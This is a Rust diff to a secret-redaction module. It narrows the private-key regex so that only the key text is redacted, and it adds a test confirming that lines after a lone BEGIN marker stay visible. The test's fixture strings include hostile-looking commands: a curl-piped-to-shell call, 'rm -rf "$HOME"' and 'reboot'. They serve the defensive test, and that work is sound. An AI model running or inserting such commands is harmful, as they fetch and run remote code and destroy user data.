@@ -15,7 +15,13 @@ pub const MARK: &str = "[REDACTED]";
 pub const SHAPES: &[(&str, &str, &str)] = &[
     (
         "a private key",
-        r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----[\s\S]*?(-----END [A-Z0-9 ]*PRIVATE KEY-----|\z)",
+        // The key's own text only, never what follows it: the rest of its
+        // line in key characters (a JSON string's `\n` escapes among
+        // them), then whole lines of them (with a diff's `+`, `-` or ` `
+        // before them, and blank lines between) up to its END line; with
+        // no END line, only lines of 40 characters or more (a short line
+        // could be a command hidden after a lone BEGIN line).
+        r"-----BEGIN [A-Z0-9 ]*PRIVATE KEY-----(?:\\[rn]|[A-Za-z0-9+/=])*(?:(?:(?:\r?\n[+\- ]?[ \t]*)+(?:[A-Za-z0-9+/=]+|(?:Proc-Type|DEK-Info): [A-Za-z0-9,\-]*))*(?:\r?\n[+\- ]?[ \t]*)*-----END [A-Z0-9 ]*PRIVATE KEY-----|(?:(?:\r?\n[+\- ]?[ \t]*)+(?:[A-Za-z0-9+/]{40,}={0,2}|(?:Proc-Type|DEK-Info): [A-Za-z0-9,\-]*))*)",
         "private key",
     ),
     (
@@ -402,6 +408,42 @@ mod tests {
                 "{kind} found by the gate"
             );
         }
+    }
+
+    #[test]
+    fn a_private_key_goes_and_nothing_after_it() {
+        // A lone BEGIN line in a patch: the lines after it, and the next
+        // file's, stay (they were all hidden, while apply wrote them).
+        let patch = "+print(1)\n+# -----BEGIN RSA PRIVATE KEY----- (an example)\n+import os\n+os.system(\"curl x | sh\")\ndiff --git a/run.sh b/run.sh\n+rm -rf \"$HOME\"\n";
+        assert_eq!(
+            redact(patch),
+            "+print(1)\n+# [REDACTED] (an example)\n+import os\n+os.system(\"curl x | sh\")\ndiff --git a/run.sh b/run.sh\n+rm -rf \"$HOME\"\n"
+        );
+        // Code between a BEGIN and an END line is no key.
+        let between = "x = '-----BEGIN RSA PRIVATE KEY-----'\nrun('evil')\ny = '-----END RSA PRIVATE KEY-----'\n";
+        assert_eq!(
+            redact(between),
+            "x = '[REDACTED]'\nrun('evil')\ny = '-----END RSA PRIVATE KEY-----'\n"
+        );
+        // A short line after a lone BEGIN line is no key either.
+        assert_eq!(
+            redact("-----BEGIN PRIVATE KEY-----\nreboot\n"),
+            "[REDACTED]\nreboot\n"
+        );
+        // A real key goes whole: in a patch, as a JSON string, and with
+        // no END line its long lines still go.
+        let line = "MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF0qeLPAabV3J1qwBXNgM8Rd4T3pQ";
+        let added = format!(
+            "+k = 1\n+-----BEGIN RSA PRIVATE KEY-----\n+{line}\n+{line}\n+\n+AbC=\n+-----END RSA PRIVATE KEY-----\n+k = 2\n"
+        );
+        assert_eq!(redact(&added), "+k = 1\n+[REDACTED]\n+k = 2\n");
+        let json = format!(
+            "{{\"private_key\": \"-----BEGIN PRIVATE KEY-----\\n{line}\\n-----END PRIVATE KEY-----\\n\", \"x\": 1}}"
+        );
+        assert!(!redact(&json).contains(line), "{}", redact(&json));
+        assert!(redact(&json).ends_with("\"x\": 1}"), "{}", redact(&json));
+        let cut = format!("-----BEGIN PRIVATE KEY-----\n{line}\n  {line}\nprint(2)\n");
+        assert_eq!(redact(&cut), "[REDACTED]\nprint(2)\n");
     }
 
     #[test]
